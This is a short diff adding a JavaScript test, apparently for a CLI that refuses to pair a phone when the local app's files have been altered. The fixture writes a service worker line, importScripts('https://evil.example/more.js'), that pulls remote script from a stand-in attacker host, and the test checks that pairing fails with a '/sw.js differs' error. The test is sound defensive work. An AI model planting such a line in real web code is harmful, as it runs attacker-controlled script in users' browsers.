@@ -75,3 +75,9 @@ test("a changed app is told of on the phone, by the agent and in its log", async
     expect.objectContaining({ entry: expect.stringContaining('"what":"app.changed"') }),
   ]);
 });
+
+test("no phone is paired with a changed app, though nobody has looked at it yet", async () => {
+  await writeFile(join(appFolder, "sw.js"), "importScripts('https://evil.example/more.js')");
+  const refused = await cli.run("pair");
+  expect([refused.code, refused.error]).toEqual([4, expect.stringContaining("/sw.js differs")]);
+});
